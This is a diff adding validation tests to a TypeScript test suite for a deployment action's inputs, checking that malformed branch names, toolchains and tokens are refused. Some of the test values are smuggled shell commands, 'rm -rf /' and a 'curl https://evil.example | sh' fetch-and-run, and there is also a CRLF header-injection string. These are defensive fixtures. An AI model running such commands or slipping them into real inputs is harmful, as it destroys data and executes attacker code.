@@ -164,7 +164,12 @@ describe('inputs with a closed set of values or a number', () => {
     ['zig-version', '0.13.0/../x', /a release version/],
     ['mcp-tester-version', 'v 2', /a release version/],
     ['cargo-lambda-url', 'file:///tmp/cargo-lambda.tar.gz', /an http\(s\) URL with \{version\} and \{arch\}/],
-    ['zig-url', 'ziglang.org/download', /an http\(s\) URL/]
+    ['zig-url', 'ziglang.org/download', /an http\(s\) URL/],
+    ['preview-id', '../../x; rm -rf /', /a git branch name such as 'feature\/login-page'/],
+    ['preview-id', 'feature branch', /a git branch name/],
+    ['production-branch', 'main..dev', /a git branch name such as 'main'/],
+    ['production-branch', '-main', /a git branch name/],
+    ['rust-toolchain', 'stable; curl https://evil.example | sh', /a rustup toolchain such as 'stable'/]
   ] as [InputName, string, RegExp][])('%s = %s is refused with what is allowed', (name, value, allowed) => {
     expectRefused(name, value, allowed)
   })
@@ -184,6 +189,33 @@ describe('inputs with a closed set of values or a number', () => {
       cargoLambdaUrl: 'https://mirror.example.com/{version}/cargo-lambda-{arch}.tar.gz'
     })
     expect(read({ 'rollback-to': '12' }).rollbackTo).toBe('12')
+    expect(
+      read({ 'preview-id': 'feature/Login-Page', 'production-branch': 'refs/heads/release/2.x', 'rust-toolchain': 'nightly-2025-01-15' })
+    ).toMatchObject({
+      previewId: 'feature/Login-Page',
+      productionBranch: 'release/2.x',
+      rustToolchain: 'nightly-2025-01-15'
+    })
+  })
+})
+
+describe('tokens sent in an HTTP header', () => {
+  it.each(['smoke-test-token', 'pmcp-client-id', 'pmcp-client-secret', 'pmcp-access-token', 'github-token'] as InputName[])(
+    '%s with a line break is refused without repeating the value',
+    name => {
+      const error = refusal({ [name]: 'tok-en-value\r\nX-Injected: 1' })
+      expect(error.title).toBe(`Invalid input '${name}'`)
+      expect(error.message).toContain('line break or another control character')
+      expect(error.message).not.toContain('tok-en-value')
+      expect(error.message).not.toContain('X-Injected')
+    }
+  )
+
+  it('a token on one line is kept as it is', () => {
+    expect(read({ 'smoke-test-token': 'eyJhbGciOi.abc-_=', 'github-token': 'ghs_abc' })).toMatchObject({
+      smokeTestToken: 'eyJhbGciOi.abc-_=',
+      githubToken: 'ghs_abc'
+    })
   })
 })
 
